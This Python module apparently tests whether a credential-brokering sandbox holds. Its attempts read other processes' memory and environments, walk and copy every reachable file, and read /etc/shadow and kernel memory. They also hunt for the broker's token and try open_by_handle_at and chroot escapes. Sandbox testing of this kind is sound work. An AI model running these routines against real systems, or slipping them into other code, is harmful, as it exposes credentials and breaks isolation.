"""Reads everything that can be reached: processes, descriptors, environment, mounts, files."""

import ctypes
import os
import re
import stat

from attempts import OUT, among, attempt, steal, told

OWN = str(os.getpid())
# What `run` lets into a sandbox's environment, and what podman itself adds.
ALLOWED = re.compile(
    r"CREDBROKER_SOCKET|CREDBROKER_CAPABILITY|PATH|HOME|USER|LOGNAME|SHELL|PWD|LANG|LANGUAGE|LC_[A-Z]+|TZ|TERM|COLORTERM"
    r"|NO_COLOR|COLUMNS|LINES|TMPDIR|EDITOR|VISUAL|PAGER|container|HOSTNAME"
)


def others():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and pid != OWN]


def slurp(path, most=1 << 20):
    """A file that may be anything: never waits for a pipe or a terminal."""
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    try:
        parts, size = [], 0
        while size < most:
            part = os.read(descriptor, min(1 << 20, most - size))
            if not part:
                break
            parts.append(part)
            size += len(part)
        return b"".join(parts)
    finally:
        os.close(descriptor)


def looted(paths, most=1 << 20):
    """Steals each of them that opens; says how it went, all in all."""
    how = set()
    for path in paths:
        try:
            steal(path, slurp(path, most))
            how.add("read")
        except OSError as error:
            how.add(os.strerror(error.errno))
    return how


def names(environment):
    return {line.split(b"=")[0].decode(errors="replace") for line in environment.split(b"\0") if b"=" in line}


@attempt("own environment: names beyond the allow-list")
def own_environment():
    data = slurp("/proc/self/environ")
    steal("own environment", data)
    return among(name for name in names(data) | set(os.environ) if not ALLOWED.fullmatch(name) and name != "ATTACK_OUT")


@attempt("other processes that are seen")
def processes():
    seen = set()
    for pid in others():
        try:
            seen.add(slurp(f"/proc/{pid}/comm").decode().strip())
            steal(f"cmdline {pid}", slurp(f"/proc/{pid}/cmdline"))
        except OSError:
            continue
    return among(seen)


@attempt("environment of other processes: names beyond the allow-list")
def their_environment():
    found = set()
    for pid in others():
        try:
            data = slurp(f"/proc/{pid}/environ")
        except OSError:
            continue
        steal(f"environment of {pid}", data)
        found |= names(data)
    return among(name for name in found if not ALLOWED.fullmatch(name))


@attempt("arguments of every process: capability in them")
def arguments():
    capability = os.environ["CREDBROKER_CAPABILITY"].encode()
    return among(pid for pid in [*others(), OWN] if capability in slurp(f"/proc/{pid}/cmdline"))


def regions(pid):
    for line in slurp(f"/proc/{pid}/maps").decode(errors="replace").splitlines():
        span, mode = line.split()[:2]
        start, end = (int(number, 16) for number in span.split("-"))
        # Programs and libraries are the host's /usr, which may be read anyway.
        if mode.startswith("rw"):
            yield start, min(end - start, 4 << 20)


@attempt("memory, descriptors and directories of other processes")
def memory():
    # What is got at is looked through by the host: here it is only taken.
    for pid in others():
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
                for start, size in regions(pid):
                    try:
                        file.seek(start)
                        steal(f"memory of {pid}", file.read(size))
                    except OSError:
                        continue
        except OSError:
            pass
        for entry in ("auxv", "maps", "mountinfo", "status", "stack", "syscall", "wchan", "io", "sessionid", "loginuid"):
            looted([f"/proc/{pid}/{entry}"])
        for inside in ("fd", "root", "cwd", "root/root", "root/home", "root/run", "root/tmp", "task"):
            try:
                listed = os.listdir(f"/proc/{pid}/{inside}")
            except OSError:
                continue
            steal(f"{inside} of {pid}", "\n".join(listed))
            if inside == "fd":
                files = [f"/proc/{pid}/fd/{number}" for number in listed]
                looted(path for path in files if stat.S_ISREG(kind_of(path)))
    return "done"


def kind_of(path):
    try:
        return os.stat(path).st_mode
    except OSError:
        return 0


@attempt("files of the host through another process's root")
def through_root():
    found = set()
    for pid in others():
        for name, path in told()["paths"].items():
            if os.path.exists(f"/proc/{pid}/root{path}") or os.path.exists(f"/proc/{pid}/cwd/../../../../../..{path}"):
                found.add(name)
    return among(found)


@attempt("inherited descriptors beyond 0, 1 and 2")
def descriptors():
    # As the interpreter was started; what it opened since is told apart by its kind.
    return told_by_start["descriptors"]


def at_start():
    """Descriptors that were there before this program opened any."""
    beyond = []
    for number in sorted(int(name) for name in os.listdir("/proc/self/fd")):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue  # The listing's own.
        if number > 2 and target != "/proc/self/fd":
            beyond.append(f"{number}: {target}")
    return {"descriptors": among(beyond)}


told_by_start = at_start()


@attempt("mounts beyond what was asked for")
def mounts():
    asked, beyond = told()["mounts"], set()
    data = slurp("/proc/self/mountinfo").decode()
    steal("mountinfo", data)
    for line in data.splitlines():
        before, after = line.split(" - ", 1)
        root, point, options = before.split()[3:6]
        kind = after.split()[0]
        own = kind in ("proc", "sysfs", "devpts", "mqueue", "cgroup", "cgroup2", "devtmpfs")
        # A fresh one; /null is what podman covers single files of /proc with, /newroot where bwrap starts.
        own = own or kind == "tmpfs" and root in ("/", "/null", "/newroot")
        own = own or kind == "overlay" and point == "/"
        right = next((asked[at] for at in asked if point == at or re.fullmatch(at, point)), None)
        if right is None and not own or right == "ro" and "ro" not in options.split(","):
            beyond.add(f"{point} ({options.split(',')[0]}) from {root}")
    return among(beyond)


@attempt("devices beyond the usual ones")
def devices():
    usual = set("null zero full random urandom tty ptmx console core fd stdin stdout stderr pts shm mqueue".split())
    return among(set(os.listdir("/dev")) - usual)


@attempt("the host's disks: a block device that opens")
def disks():
    found = set()
    for at, _, files in os.walk("/dev"):
        for name in files:
            if stat.S_ISBLK(kind_of(os.path.join(at, name))):
                found.add(name)
    return among(found)


@attempt("every file that can be reached is taken")
def walk():
    taken = 0
    for at, directories, files in os.walk("/"):
        if at == "/":
            # /usr is programs, which everybody has; /proc is looked into elsewhere; /attack is this program.
            for left in ("usr", "proc", "attack", "sys"):
                if left in directories:
                    directories.remove(left)
            # Links into /usr, or the same mounted once more.
            directories[:] = [name for name in directories if name not in ("bin", "sbin") and not name.startswith("lib")]
        steal("names in " + at, "\n".join(directories + files))
        for name in files:
            path = os.path.join(at, name)
            if stat.S_ISREG(kind_of(path)):
                taken += len(looted([path], 256 << 10))
    return "done"


@attempt("/proc and /sys: what tells secrets of the host")
def system():
    looted(
        "/proc/net/unix /proc/keys /proc/key-users /proc/locks /proc/cmdline /proc/sys/kernel/core_pattern "
        "/proc/self/cgroup /proc/swaps /proc/partitions /proc/sysvipc/shm /proc/timer_list /proc/sched_debug".split()
    )
    return "done"


@attempt("/proc/kcore, /dev/mem, /proc/kmsg: the kernel's memory")
def kernel_memory():
    found = set()
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/proc/kmsg", "/dev/kmsg"):
        try:
            if slurp(path, 16):
                found.add(path)
        except OSError:
            continue
    return among(found)


for _name in ("the store's identity", "the store's token", "a file in the home", "another project in the home",
              "the configuration", "a file in /run", "a file in /var", "a file in /tmp", "a file in /dev/shm",
              "the audit file", "the runtime directory's lock"):  # fmt: skip

    def _open(name=_name):
        path = told()["paths"][name]
        steal(path, slurp(path))
        return "read"

    attempt(f"open {_name}")(_open)


@attempt("open /etc/shadow")
def shadow():
    return "read" if slurp("/etc/shadow", 1) else "nothing"


@attempt("the home: names in it")
def home():
    try:
        listed = set(os.listdir(told()["home"]))
    except FileNotFoundError:
        return "ENOENT"
    return among(listed)


@attempt("the other directories that hold the sandbox's")
def above():
    sandbox = os.path.dirname(os.environ["CREDBROKER_SOCKET"])
    here = os.open(sandbox, os.O_RDONLY | os.O_DIRECTORY)
    found = set()
    try:
        steal("sandbox/", "\n".join(os.listdir(here)))
        found |= set(os.listdir(here)) - {"sock"}
        up = ".."
        for _ in range(12):
            for name in ("control.sock", "pid", "lock", "daemon", os.path.basename(told()["broker"])):
                try:
                    os.stat(f"{up}/{name}", dir_fd=here)
                    found.add(name)
                except OSError:
                    continue
            up += "/.."
    finally:
        os.close(here)
    return among(found)


@attempt("open a file of the host by its handle")
def by_handle():
    # name_to_handle_at and open_by_handle_at: a way round the mount, for who may (CAP_DAC_READ_SEARCH).
    libc = ctypes.CDLL(None, use_errno=True)

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]

    handle, mount = Handle(size=128), ctypes.c_int()
    if libc.name_to_handle_at(-100, OUT.encode(), ctypes.byref(handle), ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    directory = os.open(OUT, os.O_RDONLY)
    try:
        opened = libc.open_by_handle_at(directory, ctypes.byref(handle), os.O_RDONLY)
        if opened < 0:
            raise OSError(ctypes.get_errno(), "open_by_handle_at")
        os.close(opened)
        return "opened"
    finally:
        os.close(directory)


@attempt("leave by chroot")
def leave():
    child = os.fork()
    if child == 0:
        code = 3
        try:
            out = os.open("/", os.O_RDONLY)
            os.makedirs("/tmp/inner", exist_ok=True)
            os.chroot("/tmp/inner")
            os.fchdir(out)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            code = 1 if any(os.path.exists(path) for path in told()["paths"].values()) else 2
        except PermissionError:
            code = 4
        except OSError:
            code = 5
        finally:
            os._exit(code)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    return {1: "out", 2: "nothing of the host", 4: "EPERM"}.get(code, f"did not run: {code}")
